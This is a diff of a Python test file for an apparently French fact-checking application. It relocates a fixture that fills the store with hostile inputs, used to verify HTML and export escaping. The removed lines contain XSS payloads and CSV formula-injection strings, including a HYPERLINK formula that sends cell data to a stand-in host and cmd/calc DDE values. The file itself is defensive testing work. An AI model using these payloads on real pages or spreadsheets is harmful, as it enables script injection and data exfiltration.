@@ -11,7 +11,6 @@ from __future__ import annotations
 
 import ast
 import csv
-import hashlib
 import io
 import json
 from html.parser import HTMLParser
@@ -27,112 +26,12 @@ from checker.settings import PACKAGE_ROOT, Settings
 from checker.store.corpus_files import make_passage
 from checker.store.database import Store
 from checker.ui.highlight import evidence_html, highlight_article, quote_html
-from claims import extract
-from tests.conftest import ClaimRecord
+from tests.conftest import ARTICLE, NOTE, PAYLOADS, REVIEWER, TITLE, ClaimRecord, fill_hostile
 
 REVIEW_PAGE = Settings(review_url="https://desk.example.org/verifications/page")
 """ClaimReview needs the fact-check page's url."""
 
-PAYLOADS = (
-    '<script>window.__pwned="script"</script>',
-    "<img src=x onerror=\"window.__pwned='img'\">",
-    "<svg onload=\"window.__pwned='svg'\"></svg>",
-    '[cliquez ici](javascript:window.__pwned="md")',
-    "<a href=\"javascript:window.__pwned='a'\">lien</a>",
-    '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
-    "![photo](x\" onerror=\"window.__pwned='mdimg')",
-    '"><script>window.__pwned="attr"</script>',
-    '</script><script>window.__pwned="ld"</script>',
-    "<style>body{display:none}</style>",
-    '=HYPERLINK("http://evil.example/?d="&A1;"clic")',
-    "+SUM(1+1)*cmd|' /C calc'!A0",
-    "-2+3+cmd|' /C calc'!A0",
-    "@SUM(A1:A9)",
-)
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
-HOSTILE_URL = "javascript:window.__pwned='url'"
-TITLE = 'Budget <script>window.__pwned="title"</script> de la ville'
-ARTICLE = (
-    TITLE
-    + "\n\n"
-    + "\n".join(
-        f"La mairie de Lyon a dépensé {i + 2} millions d'euros en 2023 pour {p}." for i, p in enumerate(PAYLOADS)
-    )
-    + "\n"
-)
-NOTE = "Faux. " + " ".join(PAYLOADS)
-REVIEWER = "<img src=x onerror=\"window.__pwned='reviewer'\">=cmd|calc"
-
-
-def fill_hostile(store: Store) -> dict:
-    """An article, claims, passages, matches and verdicts that are all payloads.
-
-    Returns {"article": id, "claims": [ids], "judged": id of the claim with the hostile
-    note and reviewer}.
-    """
-    document = extract(ARTICLE, lang="fr")
-    extra = [
-        ClaimRecord(
-            f"hostile-{i}",
-            f"La mairie affirme {p}",
-            start=ARTICLE.index(p),
-            end=ARTICLE.index(p) + len(p),
-            sentence=p,
-            reasons=[p],
-            features={"entities": [{"text": p, "label": "ORG"}]},
-        )
-        for i, p in enumerate(PAYLOADS)
-    ]
-    claims = [*document.claims, *extra]
-    article_id = store.save_article(
-        text=ARTICLE,
-        title=TITLE,
-        lang="fr",
-        sha256=hashlib.sha256(ARTICLE.encode()).hexdigest(),
-        claims=claims,
-        source=PAYLOADS[3] + ".txt",
-        url=HOSTILE_URL,
-    )
-    store.upsert_passages(
-        "hostile",
-        [
-            make_passage(
-                id=f"h{i}",
-                text=f"Selon la préfecture, {p} coûte {i} euros.",
-                title=p,
-                source=p,
-                url=HOSTILE_URL if i % 2 else "https://example.org/?q=<script>",
-                date=p,
-            )
-            for i, p in enumerate(PAYLOADS)
-        ],
-    )
-    pks = {r["id"]: r["pk"] for r in store.db.query("SELECT id, pk FROM passages WHERE corpus = 'hostile'")}
-    for n, claim in enumerate(claims):
-        store.save_check(
-            claim.id,
-            model="test-model",
-            corpora=["hostile"],
-            suggestion="related",
-            signals=list(PAYLOADS[:3]),
-            matches=[
-                {
-                    "pk": pks[f"h{(n + k) % len(PAYLOADS)}"],
-                    "score": 0.9 - k / 10,
-                    "dense": 0.8,
-                    "lexical": 1.0,
-                    "signals": [PAYLOADS[(n + k) % len(PAYLOADS)]],
-                }
-                for k in range(3)
-            ],
-        )
-    judged = claims[0].id
-    store.record_verdict(
-        judged, "false", note=NOTE, evidence=[f"h{(0 + k) % len(PAYLOADS)}" for k in range(2)], reviewer=REVIEWER
-    )
-    for claim in extra[:4]:
-        store.record_verdict(claim.id, "unclear", note=claim.text, reviewer=PAYLOADS[0])
-    return {"article": article_id, "claims": [c.id for c in claims], "judged": judged}
 
 
 class Audit(HTMLParser):
@@ -362,13 +261,13 @@ FLIPPED = "\u202eecila"  # displays as "alice" when the override is honoured
 
 def test_one_url_rule_for_the_ui_and_the_exports():
     from checker.escaping import safe_url
-    from checker.report.formats import _safe_url
+    from checker.report.formats import safe_url as report_safe_url
     from checker.ui.highlight import safe_url as ui_safe_url
 
     for url in BAD_SCHEMES:
-        assert safe_url(url) == ui_safe_url(url) == "" and _safe_url(url) is None, url
+        assert safe_url(url) == ui_safe_url(url) == "" and report_safe_url(url) == "", url
     for url in ("https://example.org/a?b=1#c", "http://exemple.fr"):
-        assert safe_url(url) == ui_safe_url(url) == _safe_url(url) == url
+        assert safe_url(url) == ui_safe_url(url) == report_safe_url(url) == url
 
 
 @pytest.fixture(scope="module")
